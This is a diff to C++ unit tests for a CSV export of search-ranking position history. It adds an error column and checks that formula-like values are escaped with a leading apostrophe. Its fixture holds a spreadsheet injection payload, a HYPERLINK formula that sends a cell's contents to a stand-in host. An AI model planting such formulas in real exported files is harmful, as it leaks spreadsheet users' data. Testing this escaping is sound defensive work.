@@ -125,15 +125,18 @@ TEST(ChartScript, TheLibraryIsOneInlineScriptThatCannotEndEarly) {
 // reads back as it was written.
 TEST(PositionHistoryPage, FormulaLikeTextsAreKeptAsText) {
     const std::vector<PositionHistoryRow> rows = {
-        {"2026-01-01T10:00:00", "=HYPERLINK(\"http://x/?\"&A1)", "@site", "-Engine", 2}};
+        {"2026-01-01T10:00:00", "=HYPERLINK(\"http://x/?\"&A1)", "@site", "-Engine", 2, ""},
+        {"2026-01-01T10:00:00", "k", "s", "e", 0, "+HTTP error"}};
     const std::string table = PositionHistoryRecords(rows);
     EXPECT_EQ(table,
-              "2026-01-01T10:00:00,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'@site,'-Engine,2\r\n");
+              "2026-01-01T10:00:00,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'@site,'-Engine,2,\r\n"
+              "2026-01-01T10:00:00,k,s,e,,'+HTTP error\r\n");
     const std::vector<PositionHistoryRow> back = ParsePositionHistory(table);
-    ASSERT_EQ(back.size(), 1u);
+    ASSERT_EQ(back.size(), 2u);
     EXPECT_EQ(back[0].keyword, rows[0].keyword);
     EXPECT_EQ(back[0].site, rows[0].site);
     EXPECT_EQ(back[0].engine, rows[0].engine);
+    EXPECT_EQ(back[1].error, rows[1].error);
 }
 
 }  // namespace
